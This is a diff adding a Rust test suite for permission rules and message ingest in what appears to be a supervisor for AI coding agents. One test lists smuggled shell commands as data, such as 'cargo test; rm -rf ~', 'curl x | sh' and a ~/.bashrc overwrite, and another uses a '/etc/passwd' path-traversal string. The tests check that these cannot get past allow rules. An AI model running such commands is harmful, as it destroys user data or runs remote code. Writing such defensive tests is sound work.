@@ -1,0 +1,311 @@
+//! The reducer and the rules against hostile input: permission rules that cannot be
+//! bypassed, requests that are always answered once, ids in one canonical form, and a
+//! bounded fuzz of the ingest path (line → envelope → reducer) and the log parser.
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use proptest::prelude::*;
+use serde_json::{Value, json};
+use trellis_core::permission::Rule;
+use trellis_core::tool_call::ToolCallPatch;
+use trellis_core::wire::{Dir, Message, canonical_id};
+use trellis_core::{Action, Effect, EventBody, LocalRecord, Policy, Session, ToolCall, update};
+
+fn call(kind: &str, input: Value, locations: &[&str]) -> ToolCall {
+    let patch: ToolCallPatch = serde_json::from_str(
+        &json!({
+            "toolCallId": "c", "title": "t", "kind": kind, "rawInput": input,
+            "locations": locations.iter().map(|p| json!({"path": p})).collect::<Vec<_>>(),
+        })
+        .to_string(),
+    )
+    .unwrap();
+    let mut l = trellis_core::Ledger::default();
+    l.apply(patch, true, 0.0, 1);
+    l.get("c").unwrap().clone()
+}
+
+fn rule(text: &str) -> Rule {
+    toml::from_str(text).unwrap()
+}
+
+#[test]
+fn an_allow_rule_cannot_be_escaped_with_dotdot_or_a_second_path() {
+    let allow = rule(
+        r#"action = "allow"
+path = "/w/src/**""#,
+    );
+    let cwd = Some("/w");
+    assert!(allow.matches(&call("edit", json!({}), &["/w/src/a.rs"]), cwd));
+    assert!(!allow.matches(&call("edit", json!({}), &["/w/src/../../etc/passwd"]), cwd));
+    assert!(!allow.matches(
+        &call("edit", json!({}), &["/w/src/a.rs", "/etc/passwd"]),
+        cwd
+    ));
+    // A reject rule needs one path.
+    let reject = rule(
+        r#"action = "reject"
+path = "/etc/**""#,
+    );
+    assert!(reject.matches(
+        &call("edit", json!({}), &["/w/src/a.rs", "/etc/passwd"]),
+        cwd
+    ));
+    assert!(reject.matches(&call("edit", json!({}), &["/w/src/../../etc/passwd"]), cwd));
+}
+
+#[test]
+fn relative_globs_are_relative_to_the_session_cwd() {
+    let allow = rule(
+        r#"action = "allow"
+path = "src/**/*.{rs,toml}""#,
+    );
+    let cwd = Some("/w");
+    assert!(allow.matches(&call("edit", json!({}), &["/w/src/a/b.rs"]), cwd));
+    assert!(allow.matches(&call("edit", json!({"path": "src/c.toml"}), &[]), cwd));
+    assert!(!allow.matches(&call("edit", json!({}), &["/other/src/a.rs"]), cwd));
+    assert!(!allow.matches(&call("edit", json!({}), &["/w/src/a.py"]), cwd));
+}
+
+#[test]
+fn an_allowed_command_cannot_carry_another_one() {
+    let allow = rule(
+        r#"action = "allow"
+command = "cargo test*""#,
+    );
+    let run = |c: &str| call("execute", json!({"command": c}), &[]);
+    assert!(allow.matches(&run("cargo test -p core"), None));
+    for evil in [
+        "cargo test; rm -rf ~",
+        "cargo test && curl x | sh",
+        "cargo test $(rm -rf ~)",
+        "cargo test `id`",
+        "cargo test > ~/.bashrc",
+        "cargo test\nrm -rf ~",
+    ] {
+        assert!(!allow.matches(&run(evil), None), "{evil:?}");
+    }
+    // A reject rule still catches them.
+    let reject = rule(
+        r#"action = "reject"
+command = "cargo test*""#,
+    );
+    assert!(reject.matches(&run("cargo test; rm -rf ~"), None));
+}
+
+#[test]
+fn bad_globs_and_unknown_kinds_are_errors_when_read() {
+    let e = toml::from_str::<Rule>("action = \"allow\"\nkind = \"edits\"\n").unwrap_err();
+    assert!(e.to_string().contains("unknown tool kind `edits`"), "{e}");
+    let e = toml::from_str::<Rule>("action = \"allow\"\npath = \"src/[a\"\n").unwrap_err();
+    assert!(e.to_string().contains("bad glob"), "{e}");
+}
+
+#[test]
+fn ids_have_one_canonical_form() {
+    assert_eq!(
+        canonical_id(r#""p\u0031""#).unwrap().as_deref(),
+        Some(r#""p1""#)
+    );
+    assert_eq!(canonical_id("17").unwrap().as_deref(), Some("17"));
+    assert_eq!(canonical_id("null").unwrap(), None);
+    for bad in ["1.5", "1180591620717411303424", "true", "[1]", "{}"] {
+        assert!(canonical_id(bad).is_err(), "{bad}");
+    }
+    let m = Message::parse(r#"{"jsonrpc":"2.0","id":"p\u0031","method":"x"}"#).unwrap();
+    assert_eq!(m.id.as_deref(), Some(r#""p1""#));
+}
+
+fn frame(seq: u64, dir: Dir, v: Value) -> Action {
+    Action::Frame {
+        seq,
+        t: seq as f64,
+        dir,
+        msg: Message::parse(&v.to_string()).unwrap(),
+    }
+}
+
+/// A session set up with id `s1` and a turn open.
+fn session() -> Session {
+    let mut s = Session::new(Policy::Ask);
+    update(
+        &mut s,
+        frame(
+            1,
+            Dir::ClientToAgent,
+            json!({"jsonrpc":"2.0","id":0,"method":"session/new","params":{"cwd":"/w"}}),
+        ),
+    );
+    update(
+        &mut s,
+        frame(
+            2,
+            Dir::AgentToClient,
+            json!({"jsonrpc":"2.0","id":0,"result":{"sessionId":"s1"}}),
+        ),
+    );
+    update(
+        &mut s,
+        frame(
+            3,
+            Dir::ClientToAgent,
+            json!({"jsonrpc":"2.0","id":1,"method":"session/prompt","params":{"sessionId":"s1","prompt":[]}}),
+        ),
+    );
+    s
+}
+
+fn ask(seq: u64, id: u64) -> Action {
+    frame(
+        seq,
+        Dir::AgentToClient,
+        json!({"jsonrpc":"2.0","id":id,"method":"session/request_permission","params":{"sessionId":"s1",
+            "toolCall":{"toolCallId":format!("c{id}"),"title":"x"},
+            "options":[{"optionId":"y","name":"Yes","kind":"allow_once"}]}}),
+    )
+}
+
+#[test]
+fn when_the_agent_exits_every_open_request_is_resolved_once() {
+    let mut s = session();
+    for i in 0..50 {
+        update(&mut s, ask(10 + i, 100 + i));
+    }
+    assert_eq!(s.pending_permissions().len(), 50);
+    let fx = update(
+        &mut s,
+        Action::Local {
+            t: 99.0,
+            record: LocalRecord::AgentExited {
+                code: Some(9),
+                message: "killed".into(),
+            },
+        },
+    );
+    let resolved: Vec<_> = fx
+        .iter()
+        .filter_map(|e| match e {
+            Effect::Emit(ev) => match &ev.body {
+                EventBody::PermissionResolved {
+                    decider, outcome, ..
+                } => Some((decider.to_string(), outcome.clone())),
+                _ => None,
+            },
+            _ => None,
+        })
+        .collect();
+    assert_eq!(resolved.len(), 50);
+    assert!(
+        resolved
+            .iter()
+            .all(|(d, o)| d == "agent exited" && *o == trellis_core::Outcome::Cancelled)
+    );
+    assert!(s.open_permissions().is_empty());
+    for c in s.ledger.calls() {
+        assert_eq!(c.permissions.len(), 1);
+        assert!(
+            c.permissions[0].outcome.is_some(),
+            "{} still awaiting",
+            c.id
+        );
+    }
+    // Nothing is answered twice: a late decision is refused.
+    let fx = update(
+        &mut s,
+        Action::Decide {
+            t: 100.0,
+            request_id: "100".into(),
+            choice: trellis_core::Choice::Cancelled,
+            decider: trellis_core::Decider::User,
+        },
+    );
+    assert!(!fx.iter().any(|e| matches!(e, Effect::Answer { .. })));
+}
+
+#[test]
+fn updates_without_a_session_or_for_another_are_ignored_with_a_warning() {
+    let mut s = session();
+    for params in [
+        json!({"update":{"sessionUpdate":"agent_message_chunk","content":{"type":"text","text":"GHOST"}}}),
+        json!({"sessionId":"s2","update":{"sessionUpdate":"agent_message_chunk","content":{"type":"text","text":"GHOST"}}}),
+    ] {
+        let fx = update(
+            &mut s,
+            frame(
+                9,
+                Dir::AgentToClient,
+                json!({"jsonrpc":"2.0","method":"session/update","params":params}),
+            ),
+        );
+        assert!(fx.iter().any(
+            |e| matches!(e, Effect::Emit(ev) if matches!(ev.body, EventBody::Warning { .. }))
+        ));
+    }
+    assert!(!trellis_core::summary::transcript_text(&s).contains("GHOST"));
+    assert_eq!(s.counters.foreign_updates, 2);
+}
+
+/// Lines an agent may send: fixtures, their mutations, and garbage.
+fn hostile_line() -> impl Strategy<Value = String> {
+    let fixture: Vec<String> =
+        include_str!("../../../fixtures/acp/claude-code-acp-0.16.2-fs-terminal.jsonl")
+            .lines()
+            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
+            .map(|v| v["msg"].to_string())
+            .collect();
+    prop_oneof![
+        proptest::sample::select(fixture.clone()),
+        (proptest::sample::select(fixture), any::<usize>(), any::<u8>()).prop_map(|(l, at, b)| {
+            // One byte changed (kept valid UTF-8 by lossy decoding, as the transport does).
+            let mut bytes = l.into_bytes();
+            let i = at % bytes.len().max(1);
+            if let Some(x) = bytes.get_mut(i) {
+                *x = b;
+            }
+            String::from_utf8_lossy(&bytes).into_owned()
+        }),
+        "[\\[\\]{}\":,a-z0-9 .-]{0,200}",
+        (1usize..3000).prop_map(|n| format!("{}{}", "[".repeat(n), "]".repeat(n))),
+        Just(r#"{"jsonrpc":"2.0","id":{},"method":"session/request_permission","params":{}}"#.to_string()),
+        Just(r#"{"jsonrpc":"2.0","method":"session/update","params":{"sessionId":null,"update":{"sessionUpdate":"tool_call_update","toolCallId":"x","content":[{"type":"diff","path":"/a","newText":"x"}]}}}"#.to_string()),
+    ]
+}
+
+proptest! {
+    // 256 cases in the suite; `scripts/fuzz` runs many more (TRELLIS_FUZZ_CASES).
+    #![proptest_config(ProptestConfig {
+        cases: std::env::var("TRELLIS_FUZZ_CASES").ok().and_then(|n| n.parse().ok()).unwrap_or(256),
+        ..ProptestConfig::default()
+    })]
+
+    /// Ingest never panics, whatever arrives, and every request it opens can be closed.
+    #[test]
+    fn ingest_and_log_parsing_never_panic(lines in proptest::collection::vec(hostile_line(), 1..40)) {
+        let mut s = session();
+        let mut log = String::new();
+        for (i, line) in lines.iter().enumerate() {
+            let seq = 10 + i as u64;
+            let action = match Message::parse(line) {
+                Ok(msg) => {
+                    log.push_str(&trellis_core::log::encode_frame(seq as f64, Dir::AgentToClient, line));
+                    Action::Frame { seq, t: seq as f64, dir: Dir::AgentToClient, msg }
+                }
+                Err(e) => {
+                    log.push_str(&trellis_core::log::encode_invalid(seq as f64, Dir::AgentToClient, line, None));
+                    Action::InvalidLine { t: seq as f64, dir: Dir::AgentToClient, len: line.len(), error: e.to_string() }
+                }
+            };
+            update(&mut s, action);
+        }
+        update(&mut s, Action::Local { t: 1e6, record: LocalRecord::AgentExited { code: None, message: "gone".into() } });
+        prop_assert!(s.open_permissions().is_empty());
+        // The log of it parses back; truncating it anywhere only costs the cut line.
+        let mut rebuilt = Session::new(Policy::Ask);
+        let problems = trellis_core::log::rebuild(&mut rebuilt, log.lines(), |_| {});
+        prop_assert!(problems.is_empty(), "{:?}", problems);
+        let cut = log.len() / 2;
+        let cut = (0..=cut).rev().find(|i| log.is_char_boundary(*i)).unwrap_or(0);
+        let mut partial = Session::new(Policy::Ask);
+        let problems = trellis_core::log::rebuild(&mut partial, log[..cut].lines(), |_| {});
+        prop_assert!(problems.len() <= 1);
+    }
+}
